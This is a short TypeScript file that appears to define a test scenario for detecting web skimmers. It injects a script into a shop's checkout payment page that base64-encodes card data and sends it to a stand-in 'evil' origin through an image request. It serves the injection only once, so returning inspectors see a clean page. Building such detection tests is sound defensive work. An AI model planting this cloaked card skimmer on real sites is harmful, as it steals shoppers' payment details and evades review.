import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'cloak-first-visit',
  why: 'Served once to each address: whoever comes back to look sees a clean page. The first visit must be the one that records.',
  covers: ['hard: cloaking', 'trigger: once', 'trigger: server gate'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/fv.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    let served = 0;
    site.alter('shop/checkout/payment', (html) =>
      served++ > 0 ? html : html.replace('</body>', () => `<script>${code}</script></body>`),
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
